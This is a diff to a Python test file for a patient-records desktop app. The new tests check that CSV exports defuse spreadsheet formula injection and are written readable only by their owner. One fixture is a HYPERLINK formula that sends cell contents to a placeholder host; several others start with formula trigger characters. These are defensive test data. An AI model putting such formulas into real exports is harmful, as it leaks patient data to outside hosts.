@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import itertools
+import os
+import stat
 from datetime import date
 
 import pytest
@@ -15,9 +17,11 @@ from ccm_desktop import icd10
 from ccm_desktop.db.models import AuditEvent, Base
 from ccm_desktop.errors import CcmError
 from ccm_desktop.importers import export_patients, import_patients
+from ccm_desktop.importers.csvfile import unescape
+from ccm_desktop.importers.export import safe_cell
 from ccm_desktop.importers.patients import PATIENT_COLUMNS
 from ccm_desktop.services.patients import LANGUAGES
-from ccm_desktop.validation import US_STATES
+from ccm_desktop.validation import US_STATES, looks_like_formula
 from tests.csvdata import CHRONIC_CODES, MBI_LETTERS, patient_row, write_csv
 
 
@@ -64,7 +68,7 @@ def varied(ctx, admin, clinician, tmp_path) -> None:
             program="pcm",
             conditions="J44.9",
             last_name="O'Brien, Jr.",
-            address='12 "Old" Mill Rd\nUnit 4',
+            address='12 "Old" Mill Rd, Unit 4',
             first_name="Zoë",
         ),
         patient_row(5),
@@ -107,7 +111,7 @@ def test_export_columns_follow_the_current_enrollment(ctx, admin, tmp_path, vari
     assert one["conditions"] == "I50.9"  # the resolved I10 is left out
     assert (two["program"], two["mbi"], two["phone"], two["care_plan_date"]) == ("", "", "", "")
     assert (three["program"], three["qmb"], three["conditions"]) == ("apcm", "yes", "E11.9")
-    assert four["address"] == '12 "Old" Mill Rd\nUnit 4' and four["care_plan_date"] == "2025-07-01"
+    assert four["address"] == '12 "Old" Mill Rd, Unit 4' and four["care_plan_date"] == "2025-07-01"
     assert (five["program"], five["consent_date"], five["consent_method"]) == (
         "complex_ccm",
         "2025-03-01",
@@ -149,7 +153,9 @@ _mbi_positions = [
     _digits,
 ]
 _name = (
-    st.text(st.sampled_from("abcdefghijklmnopqrstuvwxyzABCXYZ éñüç'-,\""), min_size=1, max_size=16)
+    st.text(
+        st.sampled_from("abcdefghijklmnopqrstuvwxyzABCXYZ éñüç'-,\"=+@"), min_size=1, max_size=16
+    )
     .map(str.strip)
     .filter(bool)
 )
@@ -210,10 +216,77 @@ def test_any_valid_patient_row_round_trips(ctx, admin, tmp_path, row):
     assert report.created == 1, report.problems
     export_patients(ctx, tmp_path / "out.csv", admin)
     out = {r["mrn"]: r for r in read(tmp_path / "out.csv")}[row["mrn"].upper()]
+    assert not [c for c in out.values() if looks_like_formula(c)]  # no cell a spreadsheet runs
     for col in set(PATIENT_COLUMNS) - {"mrn", "phone", "conditions"}:
-        assert out[col] == row[col], col
+        assert unescape(out[col]) == row[col], col  # as the import reads the cell
     assert out["phone"].translate(str.maketrans("", "", "()- ")) == row["phone"].replace("-", "")
     codes = [icd10.with_dot(c) for c in row["conditions"].split(";") if c]
     assert sorted(c for c in out["conditions"].split(";") if c) == sorted(codes)
     again = import_patients(ctx, tmp_path / "out.csv", admin)
     assert (again.created, again.updated, again.problems) == (0, 0, [])
+
+
+# -- cells a spreadsheet would run, and who may read the file --------------------------------
+FORMULAS = {
+    "last_name": '=HYPERLINK("http://example.invalid/?"&A1,"Open")',
+    "first_name": "@SUM(1+1)",
+    "address": "-2+3 Example Street",
+    "city": "+Columbus",
+}
+
+
+def test_formula_like_values_are_exported_as_text_and_import_back_unchanged(ctx, admin, tmp_path):
+    row = patient_row(1, **FORMULAS)
+    import_patients(ctx, write_csv(tmp_path / "in.csv", PATIENT_COLUMNS, [row]), admin)
+    export_patients(ctx, tmp_path / "out.csv", admin)
+    raw = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
+    [written] = read(tmp_path / "out.csv")
+    for column, value in FORMULAS.items():
+        assert written[column] == "'" + value  # shown as text by Excel and LibreOffice
+    cells = [c for line in csv.reader(raw.splitlines()) for c in line]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert written["billing_provider_npi"] == "1234567893" and written["zip"] == "43210"
+    before = dump(ctx)
+    again = import_patients(ctx, tmp_path / "out.csv", admin)
+    assert (again.created, again.updated, again.unchanged, again.problems) == (0, 0, 1, [])
+    assert dump(ctx) == before
+    assert ctx.patients.find_by_mrn("T000001").data.last_name == FORMULAS["last_name"]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1 555", "'+1 555"),
+        ("-x", "'-x"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("-5", "-5"),  # a number stays a number
+        ("+1.5", "+1.5"),
+        ("O'Brien", "O'Brien"),
+        ("'=x", "''=x"),  # an apostrophe of its own survives the round trip
+        ("''@x", "'''@x"),
+        ("'Brien", "'Brien"),
+        ("", ""),
+    ],
+)
+def test_safe_cell_and_the_import_read_each_other(value, cell):
+    assert safe_cell(value) == cell
+    assert unescape(cell) == value
+
+
+def test_the_export_is_readable_by_its_user_only(ctx, admin, tmp_path):
+    old = os.umask(0o022)  # a usual umask: files would be created 0644
+    try:
+        target = tmp_path / "out.csv"
+        target.write_text("old export\n")
+        os.chmod(target, 0o644)
+        export_patients(ctx, target, admin)
+        assert stat.S_IMODE(target.stat().st_mode) == 0o600
+        assert target.read_text(encoding="utf-8-sig").startswith("mrn,")
+        export_patients(ctx, tmp_path / "new.csv", admin)
+        assert stat.S_IMODE((tmp_path / "new.csv").stat().st_mode) == 0o600
+        assert not list(tmp_path.glob("*.partial"))
+    finally:
+        os.umask(old)
